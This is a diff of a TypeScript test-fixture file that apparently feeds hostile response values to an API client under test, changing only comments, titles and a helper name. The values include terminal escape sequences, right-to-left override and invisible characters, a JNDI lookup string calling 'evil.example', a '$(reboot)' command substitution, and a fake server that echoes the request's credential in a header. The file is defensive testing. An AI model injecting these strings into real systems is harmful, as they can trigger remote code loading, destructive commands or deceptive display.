@@ -1,8 +1,8 @@
 import { withHeader } from '../reference/http-message.js';
 import type { HostileFixture } from './fixture.js';
-import { referenceWith, changed, retold } from './write-response.js';
+import { referenceWith, changed, withNewestAnimal } from './write-response.js';
 
-/** Texts that do something to whoever shows them as they are. */
+/** Texts that have an effect when they are shown unescaped. */
 const names = {
   /** Clears the screen, colours, sets the window's title, writes the clipboard, links. */
   escapes:
@@ -10,7 +10,7 @@ const names = {
   c1: '\u009b2J\u009b31mred\u009d0;owned\u009c',
   controls: Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f',
   overwriting: 'FAIL\rPASS\b\b\b\bPASS',
-  /** Right-to-left override and isolates: the text reads otherwise than it is. */
+  /** Right-to-left override and isolates: the text is displayed in another order. */
   rightToLeft: 'annexe\u202etxt.exe\u2066\u2069\u200f',
   invisible: 'a\u200b\u200c\u200d\u2060\ufeffb\u00adc',
   zalgo: `Z${'\u0315\u0361\u0489'.repeat(500)}algo`,
@@ -20,23 +20,25 @@ const names = {
   template: '${jndi:ldap://evil.example/a}{{7*7}}%s%n$(reboot)`reboot`',
 } as const;
 
-/** Targets that answer in due form with values that are meant for whoever shows them. */
+/** Targets whose responses are valid and hold values that attack whoever shows them. */
 export const values: readonly HostileFixture[] = [
   ...Object.entries(names).flatMap(([kind, text]): HostileFixture[] => {
     const dashed = kind.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`);
     return [
       {
         name: `name-with-${dashed}`,
-        title: `An animal of others is named ${escaped(text)}`,
-        serve: retold(`"name":${JSON.stringify(text)},"categoryId":1,"status":"available"`),
+        title: `An animal of another client is named ${escaped(text)}`,
+        serve: withNewestAnimal(`"name":${JSON.stringify(text)},"categoryId":1,"status":"available"`),
         expects: { exit: 0 },
         wire: { status: 200 },
       },
       {
         name: `status-with-${dashed}`,
-        title: `An animal of others has the status ${escaped(text)}, which a finding has to quote`,
-        serve: retold(`"name":${JSON.stringify(text)},"categoryId":1,"status":${JSON.stringify(text)}`),
-        // Listings under a status show it too, though it is another.
+        title: `An animal of another client has the status ${escaped(text)}, which a finding must quote`,
+        serve: withNewestAnimal(
+          `"name":${JSON.stringify(text)},"categoryId":1,"status":${JSON.stringify(text)}`,
+        ),
+        // Listings of another status show it too.
         expects: { exit: 1, failing: ['LIST-06', 'PET-02'] },
         wire: { status: 200 },
       },
@@ -59,14 +61,14 @@ export const values: readonly HostileFixture[] = [
   },
   {
     name: 'name-of-a-megabyte',
-    title: 'An animal of others has a name of a megabyte',
-    serve: retold(`"name":"${'x'.repeat(1024 ** 2)}","categoryId":1,"status":"available"`),
+    title: 'An animal of another client has a name of a megabyte',
+    serve: withNewestAnimal(`"name":"${'x'.repeat(1024 ** 2)}","categoryId":1,"status":"available"`),
     expects: { exit: 0 },
     wire: { status: 200 },
   },
   {
     name: 'echoes-the-key',
-    title: 'Every answer repeats the credential that it was asked with, in a header and in errors',
+    title: 'Every response repeats the credential of the request, in a header and in errors',
     serve: changed((response, request) => {
       const credential = request.headers.authorization ?? 'none';
       const withKey = withHeader(response, 'X-Debug', credential);
@@ -86,7 +88,7 @@ export const values: readonly HostileFixture[] = [
   },
 ];
 
-/** A name as it can stand in a title. */
+/** A name, escaped for a title. */
 function escaped(value: string): string {
   return JSON.stringify(value.slice(0, 40)).replace(
     /[^\u0020-\u007e]/g,
